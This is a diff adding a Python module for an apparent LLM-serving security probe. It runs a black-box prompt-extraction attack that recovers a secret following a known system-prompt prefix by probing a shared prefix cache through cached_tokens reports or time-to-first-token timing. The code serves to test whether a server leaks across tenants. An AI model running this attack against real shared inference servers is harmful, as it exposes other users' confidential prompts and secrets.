@@ -1,0 +1,583 @@
+"""``kvlab probe --extract``: the prompt-extraction attack on a shared prefix cache, run black-box.
+
+The scenario. A simulated *victim* keeps sending ``prefix + secret``: the secret is a random string from a
+small alphabet, new every run. The *attacker* knows the prefix and the alphabet (as it would know a
+product's system prompt template) and recovers the secret from the left. For each candidate continuation
+it sends ``prefix + recovered + candidate + FILLER`` and asks how much of its prompt the server found
+cached: if the candidate is right, the hit reaches past the known part, because the victim's prompt put
+exactly those tokens in the cache. The filler is one character outside the alphabet: a server never
+counts the last prompt token as cached (its forward pass yields the first output), so without it the
+candidate's own last character could never show up as a hit.
+
+Channels, in the order they are tried (a calibration with the attacker's own prompts decides):
+
+- ``usage.prompt_tokens_details.cached_tokens``. The calibration also infers its *granularity* G: the
+  reported values of prompts whose first n tokens are cached are floor(n / G) * G, so G is the gcd of
+  what comes back (1 = exact). A hit is then only visible when the candidate completes a reporting block,
+  so one step guesses every string that reaches the next block boundary (``alphabet ** width``
+  candidates) and gives up (``unreachable``) when that exceeds ``max_candidates``. The simulated victim's
+  prefix is padded so that the secret's first boundary lies as far in as the budget can reach: the
+  layout best for the attacker, because a probe must show the worst case (``--prefix`` uses a layout of
+  your own, unpadded). After that step the next boundary is a whole block away, which no budget covers.
+- TTFT, when the field is absent or never shows a hit even for the attacker's own repeated prompts: the
+  latency of a 1-token request. Every candidate is timed ``ttft_repeats`` times, each time on another
+  victim conversation (see below), all candidates interleaved in a random order within a repeat. Within
+  a repeat the candidates are ranked by latency; the candidate with the lowest rank sum wins if a
+  permutation test (ranks shuffled within each repeat: slow drift between repeats cannot fake a winner;
+  the minimum over all candidates, so picking the fastest is accounted for) gives p <= ``ttft_alpha``.
+  One right character saves the server one token of prefill, often within the noise of an HTTP
+  request: expect ``inconclusive`` on a busy machine; the report shows the medians. Whether the victim's
+  *prefix* is visible in TTFT at all is measured separately (AUC of victim-prefix hits against fresh
+  prefixes of the same length).
+
+The attacker's own guesses must not count as evidence. Its requests are cached too, in its own tenant —
+the same one as the victim's on a server that shares between them, which is exactly the case that
+matters. A per-request random ``cache_salt`` would keep the guesses apart, but it would keep them apart
+from the victim as well (a salt narrows the namespace, and the victim sends none), so the attack would
+measure nothing. Instead the guesses are shaped so that no guess can hit another: every attacker prompt
+is ``prefix + s + FILLER`` with ``s`` over the alphabet and FILLER outside it. A candidate of the current
+step, ``prefix + recovered + c``, could only be matched by an earlier guess whose alphabet part starts
+with ``recovered + c``; earlier steps' guesses have alphabet parts no longer than ``recovered`` and end
+with the filler, and the other guesses of this step differ inside ``c``. So a hit past ``recovered`` comes
+from the victim. In TTFT mode every repeat uses another victim conversation (its prefix carries another
+id), so a repeat never meets the cache entries of the previous repeat's guesses. The calibration prompts
+start with a character that no prefix starts with.
+
+The victim re-sends its prompt before every step and every ``victim_every`` attacker requests, so its
+entries cannot have been evicted (least recently used first) by the attacker's own traffic.
+
+The verdict. The probe made the secret, so it checks what the attacker recovered. ``leak``: a correct
+prefix of the secret was recovered and the chance of getting it by guessing, the product of 1 / (number
+of candidates) over its steps, is at most ``alpha``. ``no leak``: the cached-tokens channel works (the
+calibration saw the attacker's own hits), the first step tried every candidate, and none hit beyond the
+known part. ``inconclusive`` otherwise — granularity, timing noise, a recovery too short to beat chance,
+or a channel that picked a wrong character — and it never claims safety.
+
+Character = token holds for byte-level tokenizers (the mini model); on others, the positions are only
+approximate and the report says so.
+"""
+
+from __future__ import annotations
+
+import itertools
+import math
+import random
+import statistics
+import string
+import time
+import uuid
+from collections.abc import Iterator, Sequence
+from dataclasses import asdict, dataclass, field
+from typing import Any, Protocol
+
+from kvlab.probe.probe import Client, ProbeError
+from kvlab.probe.timing import auc
+
+DEFAULT_ALPHABET = "abcdefghijklmnop"
+# The filler is the first of these that the alphabet lacks.
+FILLERS = "#~|^`@"
+# The calibration prompt's cached lengths: the gcd of their floors to any block size up to 128 is that block
+# size, and one even length among odd ones tells blocks of 2 from a server that reports one token short.
+CALIBRATION_LENGTHS = (37, 45, 50, 53, 61, 99, 137)
+CALIBRATION_START = "{"  # no victim prefix starts with it, so calibration entries never meet the victim's
+TTFT_PREFIX_CHARS = 400  # long enough that a prefix hit is visible in TTFT on a CPU model
+MAX_SECRET_CHARS = 64  # the attacker stops here even if every step keeps hitting
+VERDICTS = ("leak", "no leak", "inconclusive")
+
+
+@dataclass(frozen=True)
+class Reply:
+    cached_tokens: int | None  # None: the server did not report it
+    prompt_tokens: int | None
+    seconds: float  # latency of the (1-token) request: the TTFT
+
+
+class Sender(Protocol):
+    """One identity (API key) sending 1-token, temperature-0 completions."""
+
+    def send(self, prompt: str) -> Reply: ...
+
+
+class HttpSender:
+    def __init__(self, client: Client) -> None:
+        self.client = client
+
+    def send(self, prompt: str) -> Reply:
+        data, seconds = self.client.completion(prompt, 1)
+        usage: dict[str, Any] = data["usage"] if isinstance(data.get("usage"), dict) else {}
+        details = usage.get("prompt_tokens_details")
+        cached = details.get("cached_tokens") if isinstance(details, dict) else None
+        prompt_tokens = usage.get("prompt_tokens")
+        return Reply(
+            cached if isinstance(cached, int) and not isinstance(cached, bool) else None,
+            prompt_tokens if isinstance(prompt_tokens, int) else None,
+            seconds,
+        )
+
+
+@dataclass
+class ExtractConfig:
+    alphabet: str = DEFAULT_ALPHABET
+    secret: str | None = None  # None: random, ``secret_length`` characters of the alphabet
+    secret_length: tuple[int, int] = (8, 12)
+    prefix: str | None = None  # None: a fresh one, padded to the layout best for the attacker
+    max_candidates: int = 256  # guesses one step may take (a step guesses up to the next reporting boundary)
+    ttft_repeats: int = 7
+    ttft_alpha: float = 0.01  # p-value of the rank test below which a TTFT step picks its winner
+    victim_every: int = 16  # the victim re-sends after this many attacker requests
+    alpha: float = 0.01  # a recovery counts as a leak when guessing would match it with at most this chance
+    seed: int | None = None  # fixes the secret and the guessing order; prefixes get a fresh id every run
+
+    def validate(self) -> None:
+        a = self.alphabet
+        if len(a) < 2 or len(set(a)) != len(a) or not all(c in string.printable and not c.isspace() for c in a):
+            raise ValueError(f"the alphabet must be 2 or more distinct printable characters, got {a!r}")
+        if all(f in a for f in FILLERS):
+            raise ValueError(f"the alphabet must leave out one of {FILLERS!r} (the filler)")
+        if self.secret is not None and (not self.secret or any(c not in a for c in self.secret)):
+            raise ValueError(f"the secret must be non-empty and drawn from the alphabet {a!r}")
+        lo, hi = self.secret_length
+        if not 1 <= lo <= hi:
+            raise ValueError(f"secret_length must be 1 <= min <= max, got {self.secret_length}")
+        alphas_ok = 0 < self.alpha < 1 and 0 < self.ttft_alpha < 1
+        if self.max_candidates < 1 or self.ttft_repeats < 2 or self.victim_every < 1 or not alphas_ok:
+            raise ValueError("max_candidates >= 1, ttft_repeats >= 2, victim_every >= 1 and alphas in (0, 1) required")
+
+
+@dataclass
+class Step:
+    position: int  # index in the secret of the first character guessed
+    width: int  # characters guessed jointly (up to the next reporting boundary)
+    candidates: int
+    tried: int
+    outcome: str  # recovered | no hit | unreachable | inconclusive
+    guess: str | None = None
+    correct: bool | None = None  # checked against the secret the probe made
+    detail: str = ""
+
+
+@dataclass
+class ExtractReport:
+    base_url: str
+    model: str
+    alphabet: str
+    secret: str
+    prefix_chars: int
+    channel: str = ""  # cached_tokens | ttft
+    granularity: int | None = None  # of the cached_tokens reports; 1 = exact
+    calibration: dict[str, Any] = field(default_factory=dict)
+    prefix_visible: bool | None = None  # does the victim's known prefix hit for the attacker?
+    prefix_hit_tokens: int | None = None
+    prefix_ttft_auc: float | None = None
+    recovered: str = ""  # what the attacker believes
+    correct_chars: int = 0  # leading characters of ``recovered`` that are right
+    chance: float = 1.0  # probability of guessing the correct part
+    attacker_requests: int = 0
+    victim_requests: int = 0
+    requests_to_recover: int | None = None  # both parties, until the last correct character was recovered
+    seconds: float = 0.0
+    verdict: str = "inconclusive"
+    reason: str = ""
+    steps: list[Step] = field(default_factory=list)
+    notes: list[str] = field(default_factory=list)
+
+    def to_json(self) -> dict[str, Any]:
+        return asdict(self)
+
+    @property
+    def channel_label(self) -> str:
+        if self.channel != "cached_tokens":
+            return "TTFT (time to first token; cached_tokens not usable)"
+        return "cached_tokens, exact" if self.granularity == 1 else f"cached_tokens, blocks of {self.granularity}"
+
+
+# ------------------------------------------------------------------ pure pieces
+def infer_granularity(lengths: Sequence[int], reported: Sequence[int | None]) -> int | None:
+    """The G for which every report is floor(length / G) * G, or None (no hit at all, or irregular)."""
+    values = [r for r in reported if r]
+    if not values or len(reported) != len(lengths) or any(r is None for r in reported):
+        return None
+    g = math.gcd(*values)
+    return g if all(r == (n // g) * g for n, r in zip(lengths, reported, strict=True)) else None
+
+
+def next_width(known: int, granularity: int) -> int:
+    """Characters from ``known`` to the next reporting boundary; a whole block when already on one."""
+    return granularity - known % granularity
+
+
+def max_width(alphabet_size: int, budget: int) -> int:
+    """The most characters one step can guess jointly within ``budget`` candidates (0: not even one)."""
+    width = 0
+    while alphabet_size ** (width + 1) <= budget:
+        width += 1
+    return width
+
+
+def aligned_length(base: int, granularity: int, width: int) -> int:
+    """The shortest prefix length >= ``base`` and >= one block after which ``width`` characters end a block:
+    the secret's first step then guesses exactly ``width`` characters, and the prefix alone is a visible hit."""
+    n = max(base, granularity)
+    return n + (-(n + width)) % granularity
+
+
+def chance_of(steps: Sequence[Step], correct_chars: int) -> float:
+    """The probability of guessing the first ``correct_chars`` characters: 1 / candidates per step."""
+    p, done = 1.0, 0
+    for s in steps:
+        if s.outcome != "recovered" or done >= correct_chars:
+            break
+        p /= s.candidates
+        done += s.width
+    return p
+
+
+def tokens(text: str) -> int:
+    """Token count under a byte-level tokenizer (the mini model's); the alphabet is ASCII, a prefix may not be."""
+    return len(text.encode())
+
+
+def common_prefix(a: str, b: str) -> int:
+    n = 0
+    while n < min(len(a), len(b)) and a[n] == b[n]:
+        n += 1
+    return n
+
+
+def decide(report: ExtractReport, alpha: float) -> tuple[str, str]:
+    """The verdict and its reason, from the steps and the secret."""
+    n, k = len(report.secret), report.correct_chars
+    wrong = [s for s in report.steps if s.outcome == "recovered" and not s.correct]
+    last = report.steps[-1] if report.steps else None
+    if k and report.chance <= alpha:
+        rest = f"; the rest is out of reach: {last.detail}" if last and last.outcome == "unreachable" else ""
+        return "leak", (
+            f"recovered {k} of {n} characters of the victim's secret through {report.channel_label}; "
+            f"guessing would get them right with probability {report.chance:.2g}{rest}"
+        )
+    first = report.steps[0] if report.steps else None
+    if report.channel == "cached_tokens" and not report.recovered and first is not None and first.outcome == "no hit":
+        seen = {True: "is visible to", False: "is hidden from", None: "was not checked for"}[report.prefix_visible]
+        return "no leak", (
+            f"all {first.tried} candidates for the secret's first {first.width} character(s) were "
+            f"indistinguishable (none hit past the known prefix; the prefix itself {seen} the attacker)"
+        )
+    if wrong:
+        why = f"the channel singled out a wrong guess at position {wrong[0].position}: its hits are noise"
+    elif k:
+        why = f"recovered {k} character(s), but a guess is right with probability {report.chance:.2g} > {alpha}"
+    elif first is None:
+        why = "no step could run"
+    else:
+        why = f"step at position {first.position}: {first.detail}"
+    if last is not None and last.outcome == "unreachable" and k:
+        why += f"; the rest is out of reach: {last.detail}"
+    return "inconclusive", why + " (not a proof of safety)"
+
+
+# ------------------------------------------------------------------ the attack
+class _Attack:
+    """The run's state: both parties, the request counts, the report."""
+
+    def __init__(self, attacker: Sender, victim: Sender, cfg: ExtractConfig, report: ExtractReport) -> None:
+        self.attacker, self.victim, self.cfg, self.report = attacker, victim, cfg, report
+        self.rng = random.Random(cfg.seed)
+        self.filler = next(f for f in FILLERS if f not in cfg.alphabet)
+        self.victim_prompts: list[str] = []
+        self.since_victim = 0
+        self.run_id = uuid.uuid4().hex[:12]  # fresh whatever the seed: a re-run must not meet old entries
+
+    # -- traffic
+    def resend_victims(self) -> None:
+        for prompt in self.victim_prompts:
+            self.victim_send(prompt)
+        self.since_victim = 0
+
+    def victim_send(self, prompt: str) -> None:
+        reply = self.victim.send(prompt)
+        self.report.victim_requests += 1
+        if reply.prompt_tokens is not None and reply.prompt_tokens != tokens(prompt):
+            self._note_tokenizer()
+
+    def attack(self, prompt: str) -> Reply:
+        if self.since_victim >= self.cfg.victim_every:
+            self.resend_victims()
+        self.report.attacker_requests += 1
+        self.since_victim += 1
+        return self.attacker.send(prompt)
+
+    def _note_tokenizer(self) -> None:
+        note = "the tokenizer is not byte-level: character positions are only approximately token positions"
+        if note not in self.report.notes:
+            self.report.notes.append(note)
+
+    def candidates(self, width: int) -> Iterator[str]:
+        """Every string of ``width`` alphabet characters, in a random order (no bias for a fixed secret)."""
+        pool = ["".join(t) for t in itertools.product(self.cfg.alphabet, repeat=width)]
+        self.rng.shuffle(pool)
+        return iter(pool)
+
+    def recovered_step(self, step: Step) -> None:
+        """Record a hit; it is checked against the secret (the probe's own) for the verdict."""
+        secret = self.report.secret
+        assert step.guess is not None
+        step.correct = secret[step.position : step.position + step.width] == step.guess
+        self.report.recovered += step.guess
+        if step.correct and self.report.correct_chars == step.position:
+            self.report.correct_chars += step.width
+            self.report.requests_to_recover = self.report.attacker_requests + self.report.victim_requests
+
+    # -- calibration
+    def calibrate(self) -> None:
+        """Cache one long fresh prompt, then ask for its prefixes: their reports give the channel and G."""
+        body = "".join(self.rng.choice(string.ascii_letters + string.digits) for _ in range(max(CALIBRATION_LENGTHS)))
+        base = CALIBRATION_START + self.run_id + body
+        self.attack(base + "!")
+        reported = [self.attack(base[:n] + "?").cached_tokens for n in CALIBRATION_LENGTHS]
+        g = infer_granularity(CALIBRATION_LENGTHS, reported)
+        self.report.calibration = {"cached_lengths": list(CALIBRATION_LENGTHS), "reported": reported}
+        self.report.granularity = g
+        if g is not None:
+            self.report.channel = "cached_tokens"
+            return
+        self.report.channel = "ttft"
+        if all(r is None for r in reported):
+            self.report.notes.append("the server does not report cached_tokens: falling back to TTFT")
+        elif not any(reported):
+            self.report.notes.append(
+                "cached_tokens is always 0, even for the attacker's own repeated prompts: falling back to TTFT"
+            )
+        else:
+            self.report.notes.append(f"cached_tokens reports follow no block size ({reported}): falling back to TTFT")
+
+    # -- the cached_tokens channel
+    def run_cached(self) -> None:
+        cfg, g = self.cfg, self.report.granularity
+        assert g is not None
+        reach = max_width(len(cfg.alphabet), cfg.max_candidates)
+        base = f"[{self.run_id}] Internal note for the assistant. The access code is: "
+        if cfg.prefix is not None:
+            prefix = cfg.prefix
+        else:
+            first = max(1, min(reach, g, len(self.report.secret)))
+            pad = aligned_length(len(base), g, first) - len(base)
+            prefix = base[:-2] + "." * pad + base[-2:]
+        self.report.prefix_chars = len(prefix)
+        self.victim_prompts = [prefix + self.report.secret]
+        self.resend_victims()
+        # Does the attacker see the victim's prefix at all? (Ends in the filler: no guess can match it.)
+        shown = (tokens(prefix) // g) * g
+        self.report.prefix_hit_tokens = self.attack(prefix + self.filler).cached_tokens
+        self.report.prefix_visible = (self.report.prefix_hit_tokens or 0) >= shown if shown else None
+        while len(self.report.recovered) < MAX_SECRET_CHARS:
+            step = self.cached_step(prefix, self.report.recovered, g)
+            self.report.steps.append(step)
+            if step.outcome != "recovered":
+                break
+            self.recovered_step(step)
+
+    def cached_step(self, prefix: str, recovered: str, g: int) -> Step:
+        known = tokens(prefix) + len(recovered)
+        width = next_width(known, g)
+        count = len(self.cfg.alphabet) ** width
+        step = Step(len(recovered), width, count, 0, "no hit")
+        if count > self.cfg.max_candidates:
+            step.outcome = "unreachable"
+            step.detail = (
+                f"the next reporting boundary is {width} characters away: {len(self.cfg.alphabet)}**{width} joint "
+                f"guesses exceed the budget of {self.cfg.max_candidates}"
+            )
+            return step
+        self.resend_victims()
+        for cand in self.candidates(width):
+            step.tried += 1
+            if (self.attack(prefix + recovered + cand + self.filler).cached_tokens or 0) >= known + width:
+                step.outcome, step.guess = "recovered", cand
+                return step
+        step.detail = f"none of the {count} candidates extended the cached prefix (end of the secret, or no sharing)"
+        return step
+
+    # -- the TTFT channel
+    def ttft_prefixes(self) -> list[str]:
+        """One known prefix per repeat: the same text after another conversation id."""
+        words = ["please", "keep", "the", "following", "access", "code", "private", "and", "never", "repeat"]
+        text = " ".join(self.rng.choice(words) for _ in range(TTFT_PREFIX_CHARS // 4))
+        out = []
+        for j in range(self.cfg.ttft_repeats):
+            head = f"[{self.run_id}-{j}] "
+            out.append(head + text[: TTFT_PREFIX_CHARS - len(head) - 2] + ": ")
+        return out
+
+    def ttft_visibility(self, prefixes: list[str]) -> None:
+        """AUC of TTFT: the victim's prefixes (hits if shared) against fresh ones of the same length (misses)."""
+        hits: list[float] = []
+        misses: list[float] = []
+        for p, victim in zip(prefixes, self.victim_prompts, strict=True):
+            # Each pair right after its victim: the fresh prompts' blocks may have evicted the older victims.
+            self.victim_send(victim)
+            fresh = "<" + uuid.uuid4().hex + "".join(self.rng.choice(string.ascii_lowercase) for _ in range(len(p)))
+            tests = [(True, p + self.filler), (False, fresh[: len(p)] + self.filler)]
+            self.rng.shuffle(tests)
+            for is_hit, prompt in tests:
+                (hits if is_hit else misses).append(self.attack(prompt).seconds)
+        self.report.prefix_ttft_auc = auc(hits, misses)
+        self.report.prefix_visible = self.report.prefix_ttft_auc >= 0.9
+        self.report.notes.append(
+            f"victim prefix vs fresh prefix ({len(prefixes[0])} characters): median TTFT "
+            f"{1000 * statistics.median(hits):.1f} vs {1000 * statistics.median(misses):.1f} ms, "
+            f"AUC {self.report.prefix_ttft_auc:.2f}"
+        )
+
+    def run_ttft(self) -> None:
+        prefixes = self.ttft_prefixes()
+        self.report.prefix_chars = len(prefixes[0])
+        self.victim_prompts = [p + self.report.secret for p in prefixes]
+        self.resend_victims()
+        self.ttft_visibility(prefixes)
+        while len(self.report.recovered) < MAX_SECRET_CHARS:
+            step = self.ttft_step(prefixes, self.report.recovered)
+            self.report.steps.append(step)
+            if step.outcome != "recovered":
+                break
+            self.recovered_step(step)
+
+    def ttft_step(self, prefixes: list[str], recovered: str) -> Step:
+        alphabet = self.cfg.alphabet
+        step = Step(len(recovered), 1, len(alphabet), len(alphabet), "inconclusive")
+        self.resend_victims()
+        repeats: list[dict[str, float]] = []
+        for p in prefixes:  # candidates interleaved within a repeat: drift hits all of them alike
+            repeats.append({c: self.attack(p + recovered + c + self.filler).seconds for c in self.candidates(1)})
+        best, p_value = rank_test(repeats, self.rng)
+        medians = {c: statistics.median(r[c] for r in repeats) for c in alphabet}
+        fastest = ", ".join(f"{c}:{1000 * m:.2f}" for c, m in sorted(medians.items(), key=lambda kv: kv[1])[:4])
+        step.detail = (
+            f"candidate {best!r} is fastest by rank over {len(repeats)} repeats with p = {p_value:.3g} "
+            f"(needs <= {self.cfg.ttft_alpha}); median TTFT ms {fastest}"
+        )
+        if p_value <= self.cfg.ttft_alpha:
+            step.outcome, step.guess = "recovered", best
+        else:
+            step.detail = "one cached character is within the timing noise: " + step.detail
+        return step
+
+
+def mid_ranks(values: dict[str, float]) -> dict[str, float]:
+    """Rank of each key by value, 0 = smallest; tied values share their mean rank (no tie picks a winner)."""
+    order = sorted(values, key=values.__getitem__)
+    ranks: dict[str, float] = {}
+    i = 0
+    while i < len(order):
+        j = i
+        while j + 1 < len(order) and values[order[j + 1]] == values[order[i]]:
+            j += 1
+        for k in order[i : j + 1]:
+            ranks[k] = (i + j) / 2
+        i = j + 1
+    return ranks
+
+
+def rank_test(repeats: Sequence[dict[str, float]], rng: random.Random, permutations: int = 2000) -> tuple[str, float]:
+    """(the candidate with the lowest latency-rank sum over the repeats, its p-value). Null hypothesis: within
+    each repeat the candidates' ranks are exchangeable; the statistic is the minimum rank sum over all
+    candidates, so the p-value already pays for having picked the fastest one."""
+    cands = sorted(repeats[0])
+    ranks = [mid_ranks(rep) for rep in repeats]
+    sums = {c: sum(r[c] for r in ranks) for c in cands}
+    best = min(cands, key=sums.__getitem__)
+    rows = [[r[c] for c in cands] for r in ranks]
+    as_low = 0
+    for _ in range(permutations):
+        totals = [0.0] * len(cands)
+        for row in rows:
+            shuffled = rng.sample(row, len(row))
+            totals = [t + v for t, v in zip(totals, shuffled, strict=True)]
+        as_low += min(totals) <= sums[best] + 1e-9
+    return best, (as_low + 1) / (permutations + 1)
+
+
+def make_secret(cfg: ExtractConfig, rng: random.Random) -> str:
+    if cfg.secret is not None:
+        return cfg.secret
+    return "".join(rng.choice(cfg.alphabet) for _ in range(rng.randint(*cfg.secret_length)))
+
+
+def extract(
+    attacker: Sender, victim: Sender, cfg: ExtractConfig, *, base_url: str = "", model: str = ""
+) -> ExtractReport:
+    """Run the attack with these two identities; see the module docstring."""
+    cfg.validate()
+    t0 = time.perf_counter()
+    secret = make_secret(cfg, random.Random(None if cfg.seed is None else cfg.seed + 1))
+    report = ExtractReport(base_url, model, cfg.alphabet, secret, 0)
+    run = _Attack(attacker, victim, cfg, report)
+    run.calibrate()
+    if report.channel == "cached_tokens":
+        run.run_cached()
+    else:
+        run.run_ttft()
+    report.chance = chance_of(report.steps, report.correct_chars)
+    report.verdict, report.reason = decide(report, cfg.alpha)
+    report.seconds = time.perf_counter() - t0
+    return report
+
+
+def run_extract(
+    base_url: str,
+    model: str,
+    cfg: ExtractConfig,
+    *,
+    api_key: str | None = None,
+    victim_api_key: str | None = None,
+    timeout: float = 60.0,
+) -> ExtractReport:
+    """``extract`` against a server: the attacker and the victim each on their own pooled connection to
+    ``base_url`` (and nowhere else), with their own API keys."""
+    with (
+        Client(base_url, model, timeout, api_key=api_key, max_connections=2) as a,
+        Client(base_url, model, timeout, api_key=victim_api_key, max_connections=2) as v,
+    ):
+        return extract(HttpSender(a), HttpSender(v), cfg, base_url=base_url, model=model)
+
+
+def render(report: ExtractReport) -> str:
+    """The report as the few lines a terminal shows."""
+    r = report
+    lines = [
+        f"extraction probe of {r.base_url} ({r.model}): channel {r.channel_label}",
+        f"  secret: {len(r.secret)} characters of {r.alphabet!r} after a {r.prefix_chars}-character known prefix",
+        f"  recovered: {r.recovered!r} ({r.correct_chars} correct of {len(r.secret)}: {r.secret!r})",
+        f"  requests: {r.attacker_requests} attacker + {r.victim_requests} victim in {r.seconds:.1f}s"
+        + (f"; {r.requests_to_recover} until the last correct character" if r.requests_to_recover else ""),
+    ]
+    if r.prefix_visible is not None:
+        lines.append(f"  the victim's known prefix is {'' if r.prefix_visible else 'not '}visible to the attacker")
+    for s in r.steps:
+        got = f" -> {s.guess!r} ({'right' if s.correct else 'WRONG'})" if s.guess is not None else ""
+        count = f"{len(r.alphabet)}**{s.width}" if s.outcome == "unreachable" else str(s.candidates)
+        lines.append(f"  step @{s.position} ({s.width} char, {s.tried}/{count} tried): {s.outcome}{got}")
+        if s.detail:
+            lines.append(f"    {s.detail}")
+    lines += [f"  note: {n}" for n in r.notes]
+    lines.append(f"  verdict: {r.verdict.upper()}: {r.reason}")
+    return "\n".join(lines)
+
+
+def exit_code(report: ExtractReport) -> int:
+    return 1 if report.verdict == "leak" else 0
+
+
+__all__ = [
+    "VERDICTS",
+    "ExtractConfig",
+    "ExtractReport",
+    "HttpSender",
+    "ProbeError",
+    "Reply",
+    "Sender",
+    "Step",
+    "extract",
+    "infer_granularity",
+    "render",
+    "run_extract",
+]
